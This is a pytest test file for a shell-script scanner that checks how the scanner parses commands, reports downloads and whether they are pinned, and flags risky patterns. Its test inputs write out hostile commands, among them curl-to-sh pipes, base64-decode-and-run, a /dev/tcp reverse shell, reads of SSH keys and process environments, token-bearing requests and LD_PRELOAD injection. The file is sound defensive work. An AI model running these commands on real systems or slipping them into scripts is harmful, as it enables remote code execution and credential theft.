"""Shell texts of champions: what they fetch, what they hide, and texts that try to hurt who reads them."""

from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tournament_sync.inspection import shell_syntax
from tournament_sync.inspection.report import Phase, Severity
from tournament_sync.inspection.rules import RULES
from tournament_sync.inspection.shell import MAX_NESTED, MAX_TEXTS, LineMap, ShellFacts, is_shell, read_shell
from tournament_sync.inspection.shell_programs import program_words
from tournament_sync.inspection.shell_syntax import MAX_DEPTH, MAX_ERRORS, MAX_PIPES, MAX_SCRIPT_BYTES

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA256 = "0123456789abcdef" * 4


def read(text: str, *, phase: Phase = Phase.BUILD, **values: str) -> ShellFacts:
    return read_shell(text, file="a.sh", first_line=1, phase=phase, variables=values)


def rules(text: str, *, phase: Phase = Phase.BUILD) -> set[str]:
    return {found.rule for found in read(text, phase=phase).findings}


def lines(text: str, rule: str, *, phase: Phase = Phase.BUILD) -> list[int]:
    return [found.line for found in read(text, phase=phase).findings if found.rule == rule]


def fetched(text: str) -> list[tuple[str, str, bool]]:
    return [(download.tool, download.target, download.pinned) for download in read(text).downloads]


def words(text: str, **values: str) -> list[list[str]]:
    return [[word.text for word in command.words] for command in read(text, **values).commands]


# Words


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("pip install a", ["pip", "install", "a"]),
        ("p'i'p \"in\"stall a", ["pip", "install", "a"]),
        (r"p\ip install a\ b", ["pip", "install", "a b"]),
        (r"$'\x70ip' $'a\tb' $'\101' $'\u00e9' $'\U0001F600'", ["pip", "a\tb", "A", "é", "😀"]),
        ("pip \\\n  install \\\n a", ["pip", "install", "a"]),
        ('echo "a \\"b\\" \\$c \\d"', ["echo", 'a "b" $c \\d']),
        ('echo $"translated"', ["echo", "translated"]),
    ],
)
def test_reads_words_as_the_shell_does(text: str, expected: list[str]) -> None:
    (command,) = read(text).commands
    assert [word.text for word in command.words] == expected
    assert all(word.is_literal for word in command.words)


@pytest.mark.parametrize(
    "text", ["echo $X", 'echo "$X"', "echo $(id)", "echo `id`", "echo $((1+1))", "echo ${X:-a}"]
)
def test_words_with_expansions_are_not_literal(text: str) -> None:
    assert not read(text).commands[0].words[1].is_literal


def test_puts_in_variables_that_are_set_once_to_a_literal() -> None:
    assert words("A=cu; B=rl; C=$A$B; $C $V", V="x")[-1] == ["curl", "x"]


@pytest.mark.parametrize("text", ["A=a; A=b; c $A", "for A in b c; do c $A; done", 'A=a; A="$B"; c $A'])
def test_leaves_variables_alone_that_may_have_several_values(text: str) -> None:
    assert not read(text, A="known").commands[-1].words[1].is_literal


def test_tells_commands_in_background_redirections_and_here_documents() -> None:
    facts = read("cat > /etc/x <<'E'\nbody $X\nE\ndog &")
    command = facts.commands[0]
    assert [(each.name, each.in_background) for each in facts.commands] == [("cat", False), ("dog", True)]
    assert [(each.operator, each.target.text) for each in command.redirects] == [(">", "/etc/x")]
    assert command.stdin is not None and command.stdin.text == "body $X\n"


def test_redirections_of_a_block_belong_to_each_command_in_it() -> None:
    facts = read("{ a; b; } > /etc/x", phase=Phase.RUN)
    assert facts.writes == ("/etc/x",)
    assert [len(command.redirects) for command in facts.commands] == [1, 1]


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("sudo -u root pip install a", "pip"),
        ("env -u X A=1 B=2 pip install a", "pip"),
        ("nohup nice -n 5 timeout -k 1 30 pip install a", "pip"),
        ("exec -a x pip", "pip"),
        ("A=1 command pip", "pip"),
        ("xargs -n 1 -- pip install", "pip"),
        ("sudo", "sudo"),
    ],
)
def test_looks_through_programs_that_start_others(text: str, program: str) -> None:
    assert program_words(read(text).commands[0])[0].text == program


def test_wrappers_without_end_are_left_as_they_are() -> None:
    assert program_words(read("sudo " * 100 + "pip").commands[0])[0].text == "sudo"


# Downloads


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("pip install a==1.0 'b>=2' c", [("pip", "a==1.0", True), ("pip", "b>=2", False), ("pip", "c", False)]),
        ("pip3.11 install -U --no-cache-dir 'a[x]==1'", [("pip", "a[x]==1", True)]),
        ("python3 -m pip install a===1", [("pip", "a===1", True)]),
        ("pip install 'a==1.*' 'b==1,<2' 'c!=1'", [("pip", t, False) for t in ("a==1.*", "b==1,<2", "c!=1")]),
        ("uv pip install --system -r /x/r.txt", [("pip", "-r /x/r.txt", False)]),
        ("pip install --require-hashes -r r.txt", [("pip", "-r r.txt", True)]),
        ("pip install --requirement=r.txt", [("pip", "-r r.txt", False)]),
        ("pip install . ./x /x/y.whl -e . '.[dev]' file:x", []),
        ("uv add a==1 && uv sync --frozen", [("pip", "a==1", True), ("pip", "uv.lock", True)]),
        (f'pip install "a @ git+https://h/a.git@{COMMIT}"', [("pip", f"a @ git+https://h/a.git@{COMMIT}", True)]),
        ('pip install "a @ git+https://h/a.git@2.4"', [("pip", "a @ git+https://h/a.git@2.4", False)]),
        (f"pip install https://h/a.whl#sha256={SHA256}", [("pip", f"https://h/a.whl#sha256={SHA256}", True)]),
        ("pip install https://h/a.whl", [("pip", "https://h/a.whl", False)]),
        ("pip install $X", [("pip", "$X", False)]),
        ("pip install a==$X", [("pip", "a==$X", False)]),
        ("pip list; pip uninstall -y a; pip --version", []),
        ("conda install -y -c x a=1.2 b", [("conda", "a=1.2", True), ("conda", "b", False)]),
        ("conda env create -f e.yml", [("conda", "-f e.yml", False)]),
        ("apt-get install -y git=1:2 vim", [("apt", "git=1:2", True), ("apt", "vim", False)]),
        ("apt-get update; apt-get -y upgrade", [("apt", "upgrade", False)]),
        ("apk add --no-cache a=1.2-r0", [("apk", "a=1.2-r0", True)]),
        ("dnf -y install a", [("dnf", "a", False)]),
        ("git clone --depth 1 https://h/a /b", [("git", "https://h/a", False)]),
        (f"git clone https://h/a && cd a && git checkout {COMMIT}", [("git", "https://h/a", True)]),
        ("git clone https://h/a && cd a && git checkout v1", [("git", "https://h/a", False)]),
        (f"git fetch origin {COMMIT}", [("git", f"origin {COMMIT}", True)]),
        ("git submodule update --init; git submodule update --remote",
         [("git", "submodules", True), ("git", "submodules", False)]),
        ("git lfs pull; git pull", [("git", "lfs", False), ("git", "origin", False)]),
        ("git status; git commit -m x", []),
        ("curl -fsSLo x https://h/a", [("curl", "https://h/a", False)]),
        ("wget -O x https://h/a", [("curl", "https://h/a", False)]),
        ("curl $URL/a", [("curl", "$URL/a", False)]),
        (f"hf download a/b --revision {COMMIT}", [("hub", "a/b", True)]),
        ("huggingface-cli download a/b x.bin", [("hub", "a/b", False)]),
        ("npm ci; npm install a@1.2.3 b",
         [("npm", "package.json", True), ("npm", "a@1.2.3", True), ("npm", "b", False)]),
        ("npx a@1.2.3 x", [("npm", "a@1.2.3", True)]),
        (f"cargo install a --version 1.2.3; cargo install --git https://h --rev {COMMIT}",
         [("cargo", "a", True), ("cargo", "https://h", True)]),
        ("go install h/a@v1.2.3; go get h/b", [("go", "h/a@v1.2.3", True), ("go", "h/b", False)]),
        ("gem install a", [("gem", "a", False)]),
        ("aws s3 cp s3://b/k .", [("cloud", "s3://b/k", False)]),
        ("gdown 123", [("gdown", "123", False)]),
    ],
)  # fmt: skip
def test_tells_what_is_fetched_and_whether_it_is_pinned(
    text: str, expected: list[tuple[str, str, bool]]
) -> None:
    assert sorted(fetched(text)) == sorted(expected)


def test_a_download_is_pinned_by_a_digest_that_stands_in_the_script() -> None:
    check = f"echo '{SHA256}  a.tgz' | sha256sum -c -"
    assert fetched(f"curl -o a.tgz https://h/x && {check}") == [("curl", "https://h/x", True)]


@pytest.mark.parametrize(
    "check",
    [
        "curl -O https://h/a.tgz.sha256; sha256sum -c a.tgz.sha256",  # a list from the same place
        f"echo '{SHA256}  other.tgz' | sha256sum -c -",
        f"echo '{SHA256}  a.tgz' | sha256sum",  # only prints
        "echo '0123  a.tgz' | sha256sum -c -",
    ],
)
def test_a_download_is_not_pinned_by_a_check_that_proves_nothing(check: str) -> None:
    assert ("curl", "https://h/a.tgz", False) in fetched(f"curl -O https://h/a.tgz; {check}")


def test_one_checkout_pins_one_clone() -> None:
    text = f"git clone https://h/a; git clone https://h/b; git -C b checkout {COMMIT}"
    assert sorted(fetched(text)) == [("git", "https://h/a", False), ("git", "https://h/b", True)]


def test_downloads_at_run_are_told_and_carry_their_phase() -> None:
    facts = read("pip install a==1", phase=Phase.RUN)
    assert facts.downloads[0].phase is Phase.RUN
    assert [found.rule for found in facts.findings] == ["shell-download-at-run"]


# Rules


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("shell-pipe-to-shell", "curl -LsSf https://h/i.sh | sh"),
        ("shell-pipe-to-shell", "wget -qO- https://h | sudo -E bash -s -- -y"),
        ("shell-pipe-to-shell", "curl https://h | tee x | sh"),
        ("shell-pipe-to-shell", "(curl https://h; echo) | sh"),
        ("shell-pipe-to-shell", "curl https://h | python3 -"),
        ("shell-pipe-to-shell", "bash <(curl -s https://h)"),
        ("shell-pipe-to-shell", "source <(curl -s https://h)"),
        ("shell-pipe-to-shell", ". /dev/stdin <<< x; curl https://h | . /dev/stdin"),
        ("shell-pipe-to-shell", 'sh -c "$(curl -fsSL https://h)"'),
        ("shell-pipe-to-shell", 'eval "$(wget -qO- https://h)"'),
        ("shell-pipe-to-shell", "eval `curl https://h`"),
        ("shell-pipe-to-shell", "c''url https://h | s\\h"),
        ("shell-pipe-to-shell", "C=curl; S=sh; $C https://h | $S"),
        ("shell-pipe-to-shell", "bash -c 'curl https://h | sh'"),
        ("shell-pipe-to-shell", "find . -exec sh -c 'curl https://h | sh' \\;"),
        ("shell-pipe-to-shell", "if true; then for i in 1 2; do curl https://h | sh; done; fi"),
        ("shell-pipe-to-shell", "f() { curl https://h | sh; }"),
        ("shell-pipe-to-shell", "trap 'curl https://h | sh' EXIT"),
        ("shell-decode-and-run", "echo cm0= | base64 -d | sh"),
        ("shell-decode-and-run", "base64 --decode x | bash"),
        ("shell-decode-and-run", "xxd -r -p x | sh"),
        ("shell-decode-and-run", "openssl enc -d -in x | sh"),
        ("shell-decode-and-run", "zcat x | sh"),
        ("shell-decode-and-run", "echo x | tr a-z n-za-m | sh"),
        ("shell-decode-and-run", 'eval "$(echo cm0= | base64 -d)"'),
        ("shell-decode-and-run", "python -c \"$(base64 -d x)\" ; sh -c \"$(base64 -d x)\""),
        ("shell-decode-and-run", "base64 -d x > y; chmod +x y; ./y"),
        ("shell-decode-and-run", "curl https://h | base64 -d | sh"),
        ("shell-download-and-run", "curl -o i.sh https://h/x; sh i.sh"),
        ("shell-download-and-run", "wget https://h/i.py && python i.py"),
        ("shell-download-and-run", "curl https://h > /tmp/a; chmod +x /tmp/a; /tmp/a"),
        ("shell-dynamic-code", 'sh -c "$X"'),
        ("shell-dynamic-code", "eval $X"),
        ("shell-dynamic-code", "cat x | sh"),
        ("shell-computed-command", "$(cat x) y"),
        ("shell-computed-command", "/???/b??h x"),
        ("shell-variable-command", "$PYTHON x.py"),
        ("shell-runs-arguments", 'exec "$@"'),
        ("shell-inline-code", "perl -e 'x'"),
        ("shell-inline-code", "python3 - <<E\nx\nE\n"),
        ("shell-network-tool", "nc -l 99"),
        ("shell-network-tool", "bash -i >& /dev/tcp/192.0.2.1/99 0>&1"),
        ("shell-network-tool", "rsync a h:b"),
        ("shell-privileged", "mount -t tmpfs x /y"),
        ("shell-container", "docker run --rm image"),
        ("shell-code-in-argument", "awk 'BEGIN{system(\"id\")}'"),
        ("shell-code-in-argument", "sed '1e id' f"),
        ("shell-code-in-argument", "tar -cf x y --checkpoint-action=exec=sh"),
        ("shell-code-in-argument", "make -f notes.txt"),
        ("shell-code-in-argument", "gcc -x c notes.txt -o a"),
        ("shell-code-in-argument", "env -S 'sh -c x'"),
        ("shell-code-in-argument", "alias ls='rm -r'"),
        ("shell-network-tool", "getent hosts $(cat f).example"),
        ("shell-odd-script", "bash notes.cfg"),
        ("shell-odd-script", ". notes.txt"),
        ("shell-startup-file", "echo import os > /usr/lib/python3/dist-packages/x.pth"),
        ("shell-startup-file", "cat f | tee /etc/ld.so.preload"),
        ("shell-privileged", "curl --unix-socket /var/run/docker.sock https://h/"),
        ("shell-credential-file", "cat ~/.ssh/id_rsa"),
        ("shell-credential-file", "cat < /proc/self/environ"),
        ("shell-credential-sent", 'curl -H "A: $HF_TOKEN" https://h/'),
        ("shell-credential-use", "hf auth login --token ${HF_TOKEN}"),
        ("shell-credential-use", "export A=$WANDB_API_KEY"),
        ("shell-preload", "export LD_PRELOAD=/x.so"),
        ("shell-redis", "redis-server --daemonize yes"),
        ("shell-background", "python x.py &"),
        ("shell-background", "nohup x"),
        ("shell-background", "redis-server --daemonize yes"),
        ("shell-scheduled", "echo x | crontab -"),
        ("shell-sudo", "sudo ls"),
        ("shell-setuid", "chmod u+s x"),
        ("shell-setuid", "chmod 4755 x"),
        ("shell-open-permissions", "chmod -R 777 x"),
        ("shell-open-permissions", "chmod a+w x"),
        ("shell-unverified-download", "curl -k https://h/a"),
        ("shell-unverified-download", "pip install --trusted-host h a==1"),
        ("shell-unpinned-download", "pip install a"),
        ("shell-unpinned-system", "apt-get install a"),
        ("shell-other-index", "pip install a==1 --extra-index-url=https://h"),
        ("shell-other-index", "add-apt-repository ppa:x"),
        ("shell-unparsable", "if then (("),
    ],
)  # fmt: skip
def test_tells(rule: str, text: str) -> None:
    assert rule in rules(text)


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("shell-uninstall", "pip uninstall -y a"),
        ("shell-absolute-write", "mkdir -p /workspace/x"),
        ("shell-download-at-run", "curl https://h/"),
    ],
)
def test_tells_what_only_matters_while_it_runs(rule: str, text: str) -> None:
    assert rule in rules(text, phase=Phase.RUN)
    assert rule not in rules(text, phase=Phase.BUILD)


def test_every_rule_of_shell_is_provoked_here() -> None:
    provoked = {
        mark.args[1][number][0]
        for test in (test_tells, test_tells_what_only_matters_while_it_runs)
        for mark in test.pytestmark  # type: ignore[attr-defined]  # pytest puts it there
        for number in range(len(mark.args[1]))
    }
    assert provoked == {rule for rule in RULES if rule.startswith("shell-")}


@pytest.mark.parametrize(
    "text",
    [
        "",
        "# curl https://h | sh\n",
        "set -e\necho '*****Running'\npython -m text_trainer \"$@\"\n",
        "echo 'curl https://h | sh' > notes",
        "mkdir -p /workspace && cd /workspace && chmod +x a.sh && chmod 755 b",
        "ls | grep sh | sort",
        "echo hi | bash script.sh",
        "find . -name '*.pyc' -delete",
        "tar xzf a.tgz && rm -rf /var/lib/apt/lists/*",
        "python -c 'print(1)' --version || true; [ -f x ] && ls",
    ],
)
def test_stays_silent_on_what_is_harmless(text: str) -> None:
    assert rules(text) <= {"shell-inline-code"}


def test_the_worst_is_critical() -> None:
    (found,) = read("echo cm0= | base64 -d | sh").findings
    assert found.severity is Severity.CRITICAL
    assert found.found == "echo cm0= | base64 -d | sh"


def test_needs_redis_is_a_fact_of_its_own() -> None:
    assert read("redis-server --daemonize yes").needs_redis
    assert not read("redis-cli ping").needs_redis


def test_tells_absolute_paths_that_it_writes_outside_its_output() -> None:
    text = "mkdir -p /a /tmp/b; cp x /c; echo > /d; tee /e; echo > /app/checkpoints/f; echo > rel; cat < /g"
    assert read(text, phase=Phase.RUN).writes == ("/a", "/c", "/d", "/e")
    assert read(text).writes == ()


def test_hands_out_inline_python_with_its_line() -> None:
    facts = read("true\npython3 - <<E\nimport os\nE\npython -c 'x = 1'\npython -c \"$X\"\n")
    assert [(code.line, code.text) for code in facts.inline_python] == [(3, "import os\n"), (5, "x = 1")]


def test_the_same_finding_is_told_once() -> None:
    assert len(read("true; pip install a; pip install a").findings) == 1


# Lines


def test_findings_have_the_line_of_their_command() -> None:
    assert lines("true\n\n  curl https://h \\\n  | sh\n", "shell-pipe-to-shell") == [4]
    assert lines('bash -c "true\nnc h 1\n"\n', "shell-network-tool") == [2]
    assert lines("cat <<E | sh\ntrue\nnc h 1\nE\n", "shell-network-tool") == [3]
    assert lines("bash -c 'true &&\n bash -c \"true &&\n nc h 1\"'", "shell-network-tool") == [3]
    assert lines("A=1\nB=2\nnc h 1\n", "shell-network-tool") == [3]
    assert lines("true\nLD_PRELOAD=/x.so\n", "shell-preload") == [2]
    assert lines("true\n\nexport LD_PRELOAD=/x.so\n", "shell-preload") == [3]
    assert set(lines("true\n\necho 'a\n", "shell-unparsable")) == {3}


def test_lines_start_where_the_text_does() -> None:
    facts = read_shell("nc a 1", file="x", first_line=7, phase=Phase.BUILD)
    assert [(found.file, found.line) for found in facts.findings] == [("x", 7)]


def test_lines_come_from_the_map_for_texts_that_were_joined() -> None:
    text = "true && nc a 1 && bash -c 'true &&  nc b 1'"
    at = text.index(" nc b")
    lines_of = LineMap(((0, 4), (text.index("nc a"), 6), (at, 9)))
    facts = read_shell(text, file="x", first_line=4, phase=Phase.BUILD, lines=lines_of)
    assert [found.line for found in facts.findings] == [6, 9]


def test_a_line_map_knows_the_line_of_each_byte() -> None:
    known = LineMap.of(b"a\nbc\n\nd", first_line=5)
    assert [known.at(offset) for offset in range(7)] == [5, 5, 6, 6, 6, 7, 8]
    assert [known.after(3).at(offset) for offset in range(4)] == [6, 6, 7, 8]


# Hostile texts


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (
            "a" * (MAX_SCRIPT_BYTES + 1),
            f"{MAX_SCRIPT_BYTES + 1} bytes are over the limit of {MAX_SCRIPT_BYTES}",
        ),
        ("a|" * (MAX_PIPES + 1), f"{MAX_PIPES + 1} pipes are over the limit of {MAX_PIPES}"),
        ("echo a\0b", "a NUL byte"),
        ("$(" * 300 + "a" + ")" * 300, f"nested deeper than {MAX_DEPTH}"),
        ("echo 'a", "'"),
    ],
)
def test_what_cannot_be_read_is_told(text: str, found: str) -> None:
    told = [each.found for each in read(text).findings if each.rule == "shell-unparsable"]
    assert any(found in each for each in told), told


def test_gives_up_parsing_when_its_time_is_over(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell_syntax, "MAX_PARSE_S", -1.0)
    (found,) = read("echo a; " * 1000).findings
    assert (found.rule, found.found) == ("shell-unparsable", "parsing took longer than -1 s")


def test_code_within_code_is_read_to_a_depth() -> None:
    text = "nc a 1"
    for _ in range(MAX_NESTED):
        text = "eval " + "'" + text.replace("'", "'\\''") + "'"
    assert rules(text) == {"shell-network-tool"}
    text = "eval " + "'" + text.replace("'", "'\\''") + "'"
    assert rules(text) == {"shell-unparsable"}


def test_more_texts_than_are_read_are_told() -> None:
    assert "shell-unparsable" in rules("eval ls;" * (MAX_TEXTS + 1))
    assert "shell-unparsable" not in rules("eval ls;" * (MAX_TEXTS - 1))


def test_tells_at_most_some_errors_of_one_text() -> None:
    told = [found for found in read("if\n" * 50 + ")\n" * 50).findings if found.rule == "shell-unparsable"]
    assert 1 <= len(told) <= MAX_ERRORS


def test_control_characters_of_a_script_are_escaped_in_findings() -> None:
    (found,) = read("nc \x1b[2Ja\x07 \u202e b").findings
    assert found.found.isprintable() and "\\x1b[2Ja" in found.found


def test_text_that_is_no_unicode_is_read_all_the_same() -> None:
    assert "shell-network-tool" in rules("echo \udcff; nc a 1")


@pytest.mark.parametrize(
    "unit", ["(", "$(", "if ", "{ ", "<<A ", "a ))\\", "x=|||for x in ", "'", '"$(', "[[ A\n<<A "]
)
def test_hostile_repetition_takes_bounded_time(unit: str) -> None:
    start_s = process_time()
    read(unit * (8192 // len(unit)))
    assert process_time() - start_s < 5


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *"|&;()<>$`\"'\\\n{}[]#=*~ ",
                *[
                    "$(",
                    "<<E\n",
                    "E\n",
                    "eval ",
                    "sh -c ",
                    "if ",
                    "fi",
                    "do",
                    "curl h ",
                    "a",
                    "&&",
                    "${",
                    "\0",
                    "é",
                ],
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_any_text_gives_facts_and_no_error(text: str) -> None:
    facts = read(text, phase=Phase.RUN)
    last = text.count("\n") + 1
    assert all(1 <= found.line <= last for found in facts.findings)
    assert facts == read(text, phase=Phase.RUN)


@pytest.mark.parametrize(
    ("name", "head", "expected"),
    [
        ("a.sh", b"", True),
        ("A.BASH", b"", True),
        ("run", b"#!/bin/sh\n", True),
        ("run", b"#! /usr/bin/env bash", True),
        ("run", b"#!/usr/bin/env -S bash -e\n", True),
        ("run", b"#!/usr/bin/python3\n", False),
        ("run", b"#!/bin/shady\n", False),
        ("run", b"echo", False),
    ],
)
def test_knows_shell_scripts(name: str, head: bytes, expected: bool) -> None:
    assert is_shell(name, head) is expected
